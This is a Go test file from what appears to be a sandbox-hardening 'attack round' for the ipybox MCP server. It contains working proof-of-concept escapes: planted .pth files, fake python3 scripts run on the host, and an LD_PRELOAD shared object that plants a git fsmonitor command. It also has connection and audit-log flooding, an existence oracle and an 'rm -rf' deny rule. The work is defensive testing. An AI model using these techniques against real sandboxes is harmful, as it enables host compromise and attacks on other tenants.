package mcpserver

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/ipybox/ipybox"
	"github.com/ipybox/ipybox/internal/mcpconn"
	"github.com/ipybox/ipybox/internal/mcptest"
	"github.com/ipybox/ipybox/internal/testenv"
)

// Attack round acc3 (issue 34): a helper who did not build the defences.
// Each test is one attack, held or broken; the report is in the commit
// messages and in the round's note.

// TestAcc3ForeignVenvInterpreterAsked: a stdio server that alice
// registers through the tool runs in the sandbox, and before it starts,
// the sandbox asks its interpreter, on the host, for the prefixes to
// bind (internal/sandbox, pythonFor/askPython). "Is it in a folder kernel
// code can write?" is judged against alice's sandbox alone (her folder,
// <ws>/alice), not against the workspace: so alice names bob's venv
// interpreter, <ws>/bob/.ipybox/venv/bin/python3, as her server's
// command. The host runs it, unsandboxed, with -I, and Python's site
// processes the .pth files of bob's venv, which his install_package put
// there: code that only ever ran in bob's sandbox runs on the host. Then
// bob's venv is bound into alice's server's sandbox, and her server reads
// what bob installed.
func TestAcc3ForeignVenvInterpreterAsked(t *testing.T) {
	t.Parallel()
	testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	mark := filepath.Join(t.TempDir(), "host-mark")
	srv := newGatedServer(t, &Options{Workspace: ws, HTTP: HTTPOptions{Principals: twoPrincipals}, Sandbox: ipybox.DefaultSandbox()})
	url := serveHTTP(t, srv)

	// bob installs a package with a .pth into his own venv: allowed, and
	// only his sandboxed kernels load it (where mark's folder is absent).
	bob := connectHTTPAs(t, url, bobTok, newVersion, nil)
	hb := createSession(t, bob)
	// One line: site runs a .pth line only when it starts with "import".
	pth := fmt.Sprintf("import os; os.path.isdir(%q) and open(%q, 'a').write('bob pth ran in %%s, pid %%d\\n' %% (os.path.realpath('/proc/self/exe'), os.getpid()))\n", filepath.Dir(mark), mark)
	whl := wheelBytes(t, "bob_pkg", map[string]string{"zz_bob_pkg.pth": pth, "bob_secret.py": "SECRET = 'bob-private-0xC0FFEE'\n"})
	name := "bob_pkg-0.1-py3-none-any.whl"
	runIn(t, bob, hb, fmt.Sprintf("import base64\nopen(%q, 'wb').write(base64.b64decode(%q))", name, base64.StdEncoding.EncodeToString(whl)))
	if res := call(t, bob, "install_package", map[string]any{"package_name": "./" + name, "session": hb}); res.IsError {
		t.Fatalf("bob's install: %s", text(res))
	}
	if _, err := os.Stat(mark); err == nil {
		t.Fatalf("bob's .pth reached the host on his own install, before alice did anything")
	}
	var bobPy string
	for _, n := range []string{"python3", "python"} {
		if p := filepath.Join(ws, "bob", ".ipybox", "venv", "bin", n); fileExists(p) {
			bobPy = p
			break
		}
	}
	if bobPy == "" {
		t.Fatal("bob has no venv interpreter")
	}

	// alice registers a server whose command is bob's venv interpreter.
	alice := connectHTTPAs(t, url, aliceTok, newVersion, nil)
	ha := createSession(t, alice)
	sites, _ := filepath.Glob(filepath.Join(ws, "bob", ".ipybox", "venv", "lib", "python*", "site-packages", "bob_secret.py"))
	if len(sites) != 1 {
		t.Fatalf("bob's package is not in his venv: %v", sites)
	}
	params := map[string]any{"command": bobPy, "args": []string{"-c", probeSrv}, "env": map[string]string{"CANARY": sites[0]}}
	res := call(t, alice, "register_mcp_server", map[string]any{"server_name": "borrowed", "server_params": params, "session": ha})
	t.Logf("alice's registration: IsError=%v %s", res.IsError, short(text(res)))
	seen := ""
	if !res.IsError {
		seen = runIn(t, alice, ha, "from mcptools.borrowed.probe import Params, run\nprint(run(Params()))")
		t.Logf("alice's server: %s", seen)
	}
	if b, err := os.ReadFile(mark); err == nil {
		t.Errorf("BROKE: bob's venv .pth ran on the host, outside every sandbox, when alice registered his interpreter: %q", b)
	}
	if strings.Contains(seen, "canary-visible=True") {
		t.Errorf("BROKE: alice's sandboxed server sees bob's installed package %s", sites[0])
	}
}

// TestAcc3ForeignKernelProgramAsked: the same gap without any install.
// bob's sandboxed kernel writes an executable named python3 in his own
// folder; alice registers it as her server's command. Asking "the
// interpreter" for its prefixes runs bob's kernel-written file on the
// host, outside every sandbox: two tokens (or two colluding principals)
// turn sandboxed kernel code into host code.
func TestAcc3ForeignKernelProgramAsked(t *testing.T) {
	t.Parallel()
	testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	mark := filepath.Join(t.TempDir(), "host-mark")
	srv := newGatedServer(t, &Options{Workspace: ws, HTTP: HTTPOptions{Principals: twoPrincipals}, Sandbox: ipybox.DefaultSandbox()})
	url := serveHTTP(t, srv)
	bob := connectHTTPAs(t, url, bobTok, newVersion, nil)
	hb := createSession(t, bob)
	script := fmt.Sprintf("#!/bin/sh\nif [ -d %q ]; then echo \"bob's kernel file ran on the host as $(id -u), pid $$\" >> %q; fi\nexit 1\n", filepath.Dir(mark), mark)
	runIn(t, bob, hb, fmt.Sprintf("import os\nos.makedirs('tools', exist_ok=True)\nopen('tools/python3', 'w').write(%q)\nos.chmod('tools/python3', 0o755)\nprint('planted')", script))
	prog := filepath.Join(ws, "bob", "tools", "python3")
	if !fileExists(prog) {
		t.Fatal("bob's kernel did not write its program")
	}
	alice := connectHTTPAs(t, url, aliceTok, newVersion, nil)
	ha := createSession(t, alice)
	res := call(t, alice, "register_mcp_server", map[string]any{"server_name": "borrowed", "server_params": map[string]any{"command": prog}, "session": ha})
	t.Logf("alice's registration: IsError=%v %s", res.IsError, short(text(res)))
	if b, err := os.ReadFile(mark); err == nil {
		t.Errorf("BROKE: bob's kernel-written program ran on the host when alice registered it as a stdio server: %q", b)
	}
}

func fileExists(p string) bool {
	_, err := os.Stat(p)
	return err == nil
}

// TestAcc3RunDirProgramAsked: one principal, the default ipybox mcp
// (sandboxed kernels, no --allow-host-servers). The kernel's run
// directory (/tmp/ipybox-*/kernel or $XDG_RUNTIME_DIR/ipybox/*/kernel) is
// bound writable at its host path, and /proc/self/mountinfo names it.
// Kernel code writes an executable python3 there; the client registers
// it as a stdio server, which is to run in the sandbox. The sandbox's
// "is the interpreter in a folder kernel code can write?" knows the
// workspace and allowWrite, not the kernel's run directory, so it asks
// the program for its prefixes on the host: the kernel's file runs
// there, unsandboxed, as the user who runs ipybox.
func TestAcc3RunDirProgramAsked(t *testing.T) {
	t.Parallel()
	testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	// direct: the command is the run directory's file. venv: the command
	// is a workspace venv's bin/python3, whose pyvenv.cfg (kernel-written)
	// names the run directory as "home": the sandbox asks home/python3.
	for _, via := range []string{"direct", "venv"} {
		t.Run(via, func(t *testing.T) {
			t.Parallel()
			ws := t.TempDir()
			mark := filepath.Join(t.TempDir(), "host-mark")
			srv := newGatedServer(t, &Options{Workspace: ws, Sandbox: ipybox.DefaultSandbox()})
			cs := connect(t, srv, nil)
			script := fmt.Sprintf("#!/bin/sh\nif [ -d %q ]; then echo \"kernel file ran on the host as uid $(id -u), pid $$\" >> %q; fi\nexit 1\n", filepath.Dir(mark), mark)
			prog := strings.TrimSpace(run(t, cs, fmt.Sprintf(`import os
rd = [l.split()[4] for l in open('/proc/self/mountinfo') if l.split()[4].endswith('/kernel') and 'ipybox' in l.split()[4]][0]
p = os.path.join(rd, 'python3')
open(p, 'w').write(%q)
os.chmod(p, 0o755)
if %q == 'venv':
    os.makedirs('v/bin', exist_ok=True)
    open('v/pyvenv.cfg', 'w').write('home = ' + rd + '\n')
    open('v/bin/python3', 'w').write('#!/bin/sh\nexit 1\n')
    os.chmod('v/bin/python3', 0o755)
    p = os.path.abspath('v/bin/python3')
print(p)`, script, via)))
			if !filepath.IsAbs(prog) || !fileExists(prog) {
				t.Fatalf("the kernel's program is not on the host: %q", prog)
			}
			res := call(t, cs, "register_mcp_server", map[string]any{"server_name": "rundir", "server_params": map[string]any{"command": prog}})
			t.Logf("registration: IsError=%v %s", res.IsError, short(text(res)))
			if b, err := os.ReadFile(mark); err == nil {
				t.Errorf("BROKE: a file that kernel code wrote in its run directory ran on the host when the client registered %s as a (sandboxed) stdio server: %q", prog, b)
			}
		})
	}
}

// TestAcc3KernelShareDefault: two principals, an operator who sets
// --max-sessions (here 2) and nothing else. alice's two sessions take
// every kernel slot, and bob's first cell is refused for as long as she
// keeps them (an idle one hibernates only after the idle timeout, and a
// cell every few minutes keeps it awake). The share of one principal is
// the whole limit unless the operator also sets
// --max-sessions-per-principal.
func TestAcc3KernelShareDefault(t *testing.T) {
	t.Parallel()
	testenv.NeedsPython(t)
	srv := newGatedServer(t, &Options{Workspace: t.TempDir(), HTTP: HTTPOptions{Principals: twoPrincipals},
		Sessions: SessionOptions{MaxSessions: 2}})
	url := serveHTTP(t, srv)
	alice := connectHTTPAs(t, url, aliceTok, newVersion, nil)
	// alice tries to take both slots; the share may refuse her second
	// (fix2: the test required both to run, which is the hole itself).
	for i := range 2 {
		if res := call(t, alice, "execute_ipython_cell", map[string]any{"code": "print(1)", "session": createSession(t, alice)}); res.IsError {
			t.Logf("alice's session %d refused: %s", i, short(text(res)))
		}
	}
	bob := connectHTTPAs(t, url, bobTok, newVersion, nil)
	hb := createSession(t, bob)
	res := call(t, bob, "execute_ipython_cell", map[string]any{"code": "print(1)", "session": hb})
	if res.IsError {
		t.Errorf("BROKE (default share): alice's sessions hold every kernel, and bob's first cell is refused: %s", short(text(res)))
	}
}

// TestAcc3ConnectionShare: 2025-11-25 connections are bounded in total
// (maxConnections, 1024), not per principal. alice opens 1024 of them
// (initialize and initialized, a few bytes each, no kernel), and bob's
// own 2025-11-25 client cannot connect until her connections idle out,
// which a request now and then prevents.
func TestAcc3ConnectionShare(t *testing.T) {
	t.Parallel()
	srv := newGatedServer(t, &Options{Workspace: t.TempDir(), HTTP: HTTPOptions{Principals: twoPrincipals}})
	url := serveHTTP(t, srv)
	hc := &http.Client{Timeout: 10 * time.Second}
	post := func(tok, sid, body string) (*http.Response, error) {
		req, _ := http.NewRequest(http.MethodPost, url, strings.NewReader(body))
		req.Header.Set("Authorization", "Bearer "+tok)
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		if sid != "" {
			req.Header.Set("Mcp-Session-Id", sid)
			req.Header.Set("Mcp-Protocol-Version", legacyVersion)
		}
		return hc.Do(req)
	}
	const init = `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"` + legacyVersion + `","capabilities":{},"clientInfo":{"name":"flood","version":"1"}}}`
	opened := 0
	for i := range maxConnections {
		resp, err := post(aliceTok, "", init)
		if err != nil {
			t.Fatalf("alice's connection %d: %v", i, err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		sid := resp.Header.Get("Mcp-Session-Id")
		if sid == "" {
			break
		}
		resp, err = post(aliceTok, sid, `{"jsonrpc":"2.0","method":"notifications/initialized"}`)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		opened++
	}
	t.Logf("alice opened %d connections", opened)
	// The table counts a connection when its initialized notification
	// has been handled, which is asynchronous.
	for deadline := time.Now().Add(5 * time.Second); !srv.connsFull() && time.Now().Before(deadline); {
		time.Sleep(10 * time.Millisecond)
	}
	c := mcp.NewClient(&mcp.Implementation{Name: "bob", Version: "1"}, nil)
	cs, err := c.Connect(t.Context(), &mcp.StreamableClientTransport{Endpoint: url, DisableStandaloneSSE: true,
		HTTPClient: &http.Client{Transport: testenv.Bearer{Token: bobTok}}}, &mcp.ClientSessionOptions{ProtocolVersion: legacyVersion})
	if err != nil {
		t.Errorf("BROKE: alice's idle connections fill the server's table, and bob cannot connect: %v", err)
		return
	}
	cs.Close()
}

// TestAcc3OperatorVenvServerHome: no client at all. The operator's
// --mcp-config runs a project's server from the workspace's venv with
// "sandbox": true, as the refusal of a host server in the workspace
// advises. Kernel code rewrites that venv's pyvenv.cfg (home = its run
// directory) and writes python3 there. The next kernel start starts the
// operator's server, and the sandbox asks home/python3 for its prefixes
// on the host: kernel code runs on the host, unsandboxed.
func TestAcc3OperatorVenvServerHome(t *testing.T) {
	t.Parallel()
	py := testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	if out, err := exec.Command(py, "-m", "venv", "--without-pip", filepath.Join(ws, ".venv")).CombinedOutput(); err != nil {
		t.Fatalf("venv: %v %s", err, out)
	}
	mark := filepath.Join(t.TempDir(), "host-mark")
	srv := newGatedServer(t, &Options{Workspace: ws, Sandbox: ipybox.DefaultSandbox(), Servers: map[string]ipybox.ServerConfig{
		"proj": {Command: filepath.Join(ws, ".venv", "bin", "python3"), Args: []string{"-c", probeSrv}, Env: map[string]string{"CANARY": "/nonexistent"}, Sandbox: []byte("true")},
	}})
	first := connect(t, srv, nil)
	if got := run(t, first, "from mcptools.proj.probe import Params, run\nprint(run(Params()))"); !strings.Contains(got, "canary-visible") {
		t.Fatalf("the operator's sandboxed server does not answer, so the test proves nothing: %q", got)
	}
	script := fmt.Sprintf("#!/bin/sh\nif [ -d %q ]; then echo \"kernel file ran on the host as uid $(id -u), pid $$\" >> %q; fi\nexit 1\n", filepath.Dir(mark), mark)
	got := run(t, first, fmt.Sprintf(`import os
rd = [l.split()[4] for l in open('/proc/self/mountinfo') if l.split()[4].endswith('/kernel') and 'ipybox' in l.split()[4]][0]
open(os.path.join(rd, 'python3'), 'w').write(%q)
os.chmod(os.path.join(rd, 'python3'), 0o755)
try:
    open('.venv/pyvenv.cfg', 'w').write('home = ' + rd + '\n')
    print('planted')
except OSError as e:
    print('refused', e)`, script))
	t.Logf("first kernel: %s", got)
	if !strings.Contains(got, "planted") {
		return // held: the kernel cannot rewrite the venv
	}
	second := connect(t, srv, nil)
	t.Logf("second kernel: %s", short(text(call(t, second, "execute_ipython_cell", map[string]any{"code": "from mcptools.proj.probe import Params, run\nprint(run(Params()))"}))))
	if b, err := os.ReadFile(mark); err == nil {
		t.Errorf("BROKE: the operator's sandboxed venv server made the host run a kernel-written file: %q", b)
	}
}

// TestAcc3RegisteredServerCwdElsewhere: alice registers a (sandboxed)
// stdio server whose cwd is bob's folder, or the workspace's .ipybox
// (the shared state folder), or a host folder outside the workspace,
// hoping that the sandbox binds its working folder. The server must
// either be refused or see none of those files.
func TestAcc3RegisteredServerCwdElsewhere(t *testing.T) {
	t.Parallel()
	py := testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	hostDir := t.TempDir()
	os.WriteFile(filepath.Join(hostDir, "host-secret"), []byte("x"), 0o600)
	srv := newGatedServer(t, &Options{Workspace: ws, HTTP: HTTPOptions{Principals: twoPrincipals}, Sandbox: ipybox.DefaultSandbox()})
	url := serveHTTP(t, srv)
	bob := connectHTTPAs(t, url, bobTok, newVersion, nil)
	runIn(t, bob, createSession(t, bob), "open('bob-secret', 'w').write('x')")
	alice := connectHTTPAs(t, url, aliceTok, newVersion, nil)
	ha := createSession(t, alice)
	for i, v := range []struct{ cwd, canary string }{
		{filepath.Join(ws, "bob"), filepath.Join(ws, "bob", "bob-secret")},
		{filepath.Join(ws, ".ipybox"), filepath.Join(ws, ".ipybox", "sessions")},
		{hostDir, filepath.Join(hostDir, "host-secret")},
	} {
		name := fmt.Sprintf("cwd%d", i)
		params := map[string]any{"command": py, "args": []string{"-c", probeSrv}, "cwd": v.cwd, "env": map[string]string{"CANARY": v.canary}}
		res := call(t, alice, "register_mcp_server", map[string]any{"server_name": name, "server_params": params, "session": ha})
		if res.IsError {
			t.Logf("held: cwd %s refused: %s", v.cwd, short(text(res)))
			continue
		}
		got := runIn(t, alice, ha, fmt.Sprintf("from mcptools.%s.probe import Params, run\nprint(run(Params()))", name))
		if strings.Contains(got, "canary-visible=True") {
			t.Errorf("BROKE: alice's server with cwd %s sees %s", v.cwd, v.canary)
		} else {
			t.Logf("held: cwd %s: %s", v.cwd, got)
		}
	}
}

// preloadSrc is a shared object whose constructor logs, to $ACC3_LOG,
// the program it was loaded into, its seccomp mode, and whether
// io_uring_setup (which the sandbox's filter blocks) is allowed.
const preloadSrc = `#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <sys/stat.h>
__attribute__((constructor)) static void acc3(void) {
	const char *log = getenv("ACC3_LOG");
	if (!log) return;
	char exe[512] = {0}, line[256], sec[64] = "?";
	readlink("/proc/self/exe", exe, sizeof exe - 1);
	FILE *st = fopen("/proc/self/status", "r");
	while (st && fgets(line, sizeof line, st))
		if (!strncmp(line, "Seccomp:", 8)) { strncpy(sec, line + 8, sizeof sec - 1); sec[strcspn(sec, "\n")] = 0; }
	if (st) fclose(st);
	char params[120] = {0};
	long r = syscall(425, 1, params); /* io_uring_setup */
	FILE *f = fopen(log, "a");
	if (f) { fprintf(f, "exe=%s seccomp=%s io_uring_setup=%ld pid=%d\n", exe, sec, r, getpid()); fclose(f); }
	const char *plant = getenv("ACC3_PLANT");
	if (plant && sec[strspn(sec, " \t")] == '0') {
		char p[1024];
		mkdir(plant, 0755);
		snprintf(p, sizeof p, "%s/.git", plant); mkdir(p, 0755);
		snprintf(p, sizeof p, "%s/.git/config", plant);
		FILE *g = fopen(p, "w");
		if (g) { fputs("[core]\n\tfsmonitor = touch /tmp/acc3-fsmonitor-ran\n", g); fclose(g); }
	}
}
`

// TestAcc3PreloadInit: a client registers a stdio server, which runs in
// the sandbox; its config's env is the client's, and it reaches the
// sandbox's init (bwrap --setenv), which is ipybox's own, dynamically
// linked binary. LD_PRELOAD naming a shared object that kernel code wrote
// in the workspace runs in the init before it applies seccomp (and
// Landlock): code in the sandbox without the filter that blocks io_uring,
// AF_VSOCK and x32, and a process of it that lives on unfiltered.
func TestAcc3PreloadInit(t *testing.T) {
	t.Parallel()
	py := testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	testenv.NeedsTool(t, "gcc")
	ws := t.TempDir()
	src := filepath.Join(t.TempDir(), "p.c")
	os.WriteFile(src, []byte(preloadSrc), 0o644)
	so := filepath.Join(ws, "evil.so")
	if out, err := exec.Command("gcc", "-shared", "-fPIC", "-o", so, src).CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v %s", err, out)
	}
	logf := filepath.Join(ws, "preload.log")
	srv := newGatedServer(t, &Options{Workspace: ws, Sandbox: ipybox.DefaultSandbox()})
	cs := connect(t, srv, nil)
	run(t, cs, "print(1)")
	// The guard refuses a .git at any depth to kernel code: the control.
	if got := run(t, cs, "import os\ntry:\n    os.makedirs('deep2/.git')\n    print('made')\nexcept OSError as e:\n    print('refused', e)"); !strings.Contains(got, "refused") {
		t.Fatalf("the guard let kernel code make deep2/.git, so the test proves nothing: %q", got)
	}
	params := map[string]any{"command": py, "args": []string{"-c", probeSrv}, "env": map[string]string{"CANARY": "/nonexistent", "LD_PRELOAD": so, "ACC3_LOG": logf, "ACC3_PLANT": filepath.Join(ws, "deep")}}
	res := call(t, cs, "register_mcp_server", map[string]any{"server_name": "pre", "server_params": params})
	t.Logf("registration: IsError=%v %s", res.IsError, short(text(res)))
	b, _ := os.ReadFile(logf)
	t.Logf("preload log:\n%s", b)
	for _, l := range strings.Split(string(b), "\n") {
		if strings.Contains(l, "seccomp=\t0") || strings.Contains(l, "seccomp=0") || strings.Contains(l, "seccomp= 0") {
			t.Errorf("BROKE: client-chosen code ran in the sandbox without the seccomp filter: %s", l)
		}
	}
	if b, err := os.ReadFile(filepath.Join(ws, "deep", ".git", "config")); err == nil {
		t.Errorf("BROKE: the preloaded init wrote a protected git config at depth, which the guard refuses to kernel code; host git in %s would run: %q", filepath.Join(ws, "deep"), b)
	}
}

// TestAcc3SnapshotShareOfThree: one principal may hold at most half of
// the snapshot budget, which protects a second principal from a first,
// not a third from two. With three principals, alice's and bob's
// sandboxed kernels each write half of the budget into their own
// snapshot folder (bound writable for them), and carol, who holds
// nothing, cannot save at all.
func TestAcc3SnapshotShareOfThree(t *testing.T) {
	t.Parallel()
	testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	const carolTok = "carol-token-0123456789"
	ws := t.TempDir()
	srv := newGatedServer(t, &Options{Workspace: ws, Sandbox: ipybox.DefaultSandbox(),
		HTTP:       HTTPOptions{Principals: map[string]string{"alice": aliceTok, "bob": bobTok, "carol": carolTok}},
		Durability: DurabilityOptions{SnapshotWorkspaceBytes: 8 << 20}})
	url := serveHTTP(t, srv)
	for _, tok := range []string{aliceTok, bobTok} {
		cs := connectHTTPAs(t, url, tok, newVersion, nil)
		got := runIn(t, cs, createSession(t, cs), `import os
d = [l.split()[4] for l in open('/proc/self/mountinfo') if '/.ipybox/snapshots/' in l.split()[4]][0]
open(os.path.join(d, 'filler'), 'wb').write(b'x' * (4 << 20))
print('filled', d)`)
		t.Log(got)
	}
	carol := connectHTTPAs(t, url, carolTok, newVersion, nil)
	runIn(t, carol, createSession(t, carol), "print(1)")
	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Second)
	defer cancel()
	n, release, err := srv.durability.budget.reserve(ctx, filepath.Join(ws, "carol", ".ipybox", "snapshots", "acc3"))
	if err != nil {
		t.Errorf("BROKE: two principals at half the snapshot budget each leave a third none: carol's save: %v", err)
		return
	}
	release()
	t.Logf("held: carol may save %d bytes", n)
}

// TestAcc3RegisteredServersUnbounded: kernels are bounded in number
// (--max-sessions), registered stdio servers are not: each registration
// of a new name starts a process in a sandbox of its own (and an egress
// proxy), which lives as long as the session. One principal's client
// registers n servers; every one is accepted and runs at once, and the
// host memory they hold grows with n, which no per-principal share caps.
func TestAcc3RegisteredServersUnbounded(t *testing.T) {
	t.Parallel()
	py := testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	srv := newGatedServer(t, &Options{Workspace: ws, HTTP: HTTPOptions{Principals: twoPrincipals}, Sandbox: ipybox.DefaultSandbox()})
	url := serveHTTP(t, srv)
	alice := connectHTTPAs(t, url, aliceTok, newVersion, nil)
	ha := createSession(t, alice)
	marker := "#acc3-" + filepath.Base(ws)
	const n = 24
	accepted := 0
	for i := range n {
		params := map[string]any{"command": py, "args": []string{"-c", probeSrv + marker}, "env": map[string]string{"CANARY": "/nonexistent"}}
		res := call(t, alice, "register_mcp_server", map[string]any{"server_name": fmt.Sprintf("s%d", i), "server_params": params, "session": ha})
		if res.IsError {
			t.Logf("registration %d refused: %s", i, short(text(res)))
			break
		}
		accepted++
	}
	running, rss := 0, 0
	procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range procs {
		b, err := os.ReadFile(p)
		if err != nil || !strings.Contains(string(b), marker) {
			continue
		}
		running++
		st, _ := os.ReadFile(filepath.Join(filepath.Dir(p), "status"))
		for _, l := range strings.Split(string(st), "\n") {
			var kb int
			if _, err := fmt.Sscanf(l, "VmRSS: %d kB", &kb); err == nil {
				rss += kb
			}
		}
	}
	t.Logf("alice: %d of %d registrations accepted, %d server processes running, %d MiB resident", accepted, n, running, rss>>10)
	if accepted == n && running >= n {
		t.Errorf("BROKE (no bound): one principal runs %d sandboxed server processes at once (%d MiB), and nothing limits n", running, rss>>10)
	}
}

// TestAcc3WorkspaceVenvKernelHome: the operator's --python is the
// project's venv in the workspace (its interpreter is "returned
// unprobed; a sandboxed kernel runs it in the sandbox"). Kernel code of
// one session rewrites that venv's pyvenv.cfg (home = its own run
// directory) and writes python3 there. The next session's kernel start
// asks home/python3 for its prefixes on the host: the run directory of
// another kernel is not among the folders the sandbox knows kernel code
// can write.
func TestAcc3WorkspaceVenvKernelHome(t *testing.T) {
	t.Parallel()
	py := testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	venv := filepath.Join(ws, ".venv")
	if out, err := exec.Command(py, "-m", "venv", "--without-pip", "--system-site-packages", venv).CombinedOutput(); err != nil {
		t.Fatalf("venv: %v %s", err, out)
	}
	mark := filepath.Join(t.TempDir(), "host-mark")
	srv := newGatedServer(t, &Options{Workspace: ws, Python: filepath.Join(venv, "bin", "python3"), Sandbox: ipybox.DefaultSandbox()})
	first := connect(t, srv, nil)
	script := fmt.Sprintf("#!/bin/sh\nif [ -d %q ]; then echo \"kernel file ran on the host as uid $(id -u), pid $$\" >> %q; fi\nexit 1\n", filepath.Dir(mark), mark)
	got := run(t, first, fmt.Sprintf(`import os
rd = [l.split()[4] for l in open('/proc/self/mountinfo') if l.split()[4].endswith('/kernel') and 'ipybox' in l.split()[4]][0]
open(os.path.join(rd, 'python3'), 'w').write(%q)
os.chmod(os.path.join(rd, 'python3'), 0o755)
try:
    cfg = open('.venv/pyvenv.cfg').read()
    open('.venv/pyvenv.cfg', 'w').write('home = ' + rd + '\n' + ''.join(l for l in cfg.splitlines(True) if not l.startswith('home')))
    print('planted')
except OSError as e:
    print('refused', e)`, script))
	t.Logf("first kernel: %s", got)
	if !strings.Contains(got, "planted") {
		return
	}
	second := connect(t, srv, nil)
	res := call(t, second, "execute_ipython_cell", map[string]any{"code": "print(1)"})
	t.Logf("second kernel: %s", short(text(res)))
	if b, err := os.ReadFile(mark); err == nil {
		t.Errorf("BROKE: the next kernel start ran a kernel-written file on the host: %q", b)
	}
}

// TestAcc3AuditRotatedAway: the audit log is one file for every
// principal, rotated at LogMaxBytes (64 MiB by default; 32 KiB here, to
// be quick) into one .1 file. bob's denied call leaves its row; then
// alice's kernel makes denied calls until the log has rotated twice, and
// bob's row is in neither file: one tenant erases another's audit rows,
// at the rate its kernel can be refused. The rate is logged, to scale
// to the default size.
func TestAcc3AuditRotatedAway(t *testing.T) {
	t.Parallel()
	testenv.NeedsPython(t)
	dir := t.TempDir()
	file, logf := filepath.Join(dir, "approvals.policy"), filepath.Join(dir, "log.jsonl")
	os.WriteFile(file, []byte("deny shell rm *\n"), 0o600)
	p, err := ipybox.LoadApprovalPolicy(file, &ipybox.ApprovalPolicyOptions{Log: logf, LogMaxBytes: 32 << 10})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Close() })
	srv := newGatedServer(t, &Options{Workspace: t.TempDir(), HTTP: HTTPOptions{Principals: twoPrincipals}, Approvals: ApprovalOptions{Policy: p}})
	url := serveHTTP(t, srv)
	bob := connectHTTPAs(t, url, bobTok, newVersion, nil)
	runIn(t, bob, createSession(t, bob), shellCell+"sh('rm -rf /nonexistent-bob-evidence')")
	if b, _ := os.ReadFile(logf); !strings.Contains(string(b), "bob-evidence") {
		t.Fatalf("bob's denied call left no row, so the test proves nothing: %s", b)
	}
	alice := connectHTTPAs(t, url, aliceTok, newVersion, nil)
	got := runIn(t, alice, createSession(t, alice), shellCell+`import time, io, contextlib
t0 = time.time()
with contextlib.redirect_stdout(io.StringIO()):
    for i in range(400):
        sh('rm -rf /nonexistent-alice-%d' % i)
print('%.0f denials/s' % (400 / (time.time() - t0)))`)
	t.Logf("alice's flood: %s", got)
	all := ""
	for _, f := range []string{logf, logf + ".1"} {
		b, _ := os.ReadFile(f)
		all += string(b)
	}
	if rows := strings.Count(all, "\n"); rows > 0 {
		t.Logf("%d bytes a row: the default 64 MiB log rotates twice after %d of alice's denials", len(all)/rows, 2*(64<<20)/(len(all)/rows))
	}
	if !strings.Contains(all, "bob-evidence") {
		t.Errorf("BROKE: alice's kernel rotated bob's audit row out of the log (%s)", got)
	}
}

// TestAcc3ExistenceOracle: the sandbox checks a registered server's
// command and cwd on the host before it starts them, and says why it
// refuses. alice names paths in bob's folder: do the refusals differ
// with whether bob's file exists (an oracle on another tenant's file
// names)?
func TestAcc3ExistenceOracle(t *testing.T) {
	t.Parallel()
	testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	srv := newGatedServer(t, &Options{Workspace: ws, HTTP: HTTPOptions{Principals: twoPrincipals}, Sandbox: ipybox.DefaultSandbox()})
	url := serveHTTP(t, srv)
	bob := connectHTTPAs(t, url, bobTok, newVersion, nil)
	runIn(t, bob, createSession(t, bob), "import os\nos.makedirs('merger-plans', exist_ok=True)\nopen('merger-plans/acme.txt', 'w').write('x')")
	alice := connectHTTPAs(t, url, aliceTok, newVersion, nil)
	ha := createSession(t, alice)
	msg := func(i int, params map[string]any) string {
		res := call(t, alice, "register_mcp_server", map[string]any{"server_name": fmt.Sprintf("o%d", i), "server_params": params, "session": ha})
		return strings.ReplaceAll(text(res), ws, "<ws>")
	}
	for i, pair := range [][2]map[string]any{
		{{"command": filepath.Join(ws, "bob", "merger-plans", "acme.txt")}, {"command": filepath.Join(ws, "bob", "merger-plans", "other.txt")}},
		{{"command": "true", "cwd": filepath.Join(ws, "bob", "merger-plans")}, {"command": "true", "cwd": filepath.Join(ws, "bob", "other-plans")}},
	} {
		yes, no := msg(2*i, pair[0]), msg(2*i+1, pair[1])
		t.Logf("exists: %s\nabsent: %s", short(yes), short(no))
		norm := func(s string) string {
			for _, n := range []string{"acme.txt", "other.txt", "merger-plans", "other-plans"} {
				s = strings.ReplaceAll(s, n, "N")
			}
			return strings.ReplaceAll(strings.ReplaceAll(s, `"o0"`, `"o"`), `"o1"`, `"o"`)
		}
		if a, b := norm(yes), norm(no); strings.ReplaceAll(a, fmt.Sprintf(`"o%d"`, 2*i), `"o"`) != strings.ReplaceAll(b, fmt.Sprintf(`"o%d"`, 2*i+1), `"o"`) {
			t.Errorf("BROKE (oracle): alice tells whether bob's %v exists from the refusal:\nexists: %s\nabsent: %s", pair[0], a, b)
		}
	}
}

// TestAcc3WheelRewritesVenvHome: no registration, no flag: install_package
// of a wheel whose .data/data/ holds a pyvenv.cfg. pip installs the data
// scheme at the venv's root, over the venv's own pyvenv.cfg, whose home
// now names a live kernel's run directory, where that kernel wrote a
// python3. The next kernel start asks "the base interpreter" of the venv
// for its prefixes on the host.
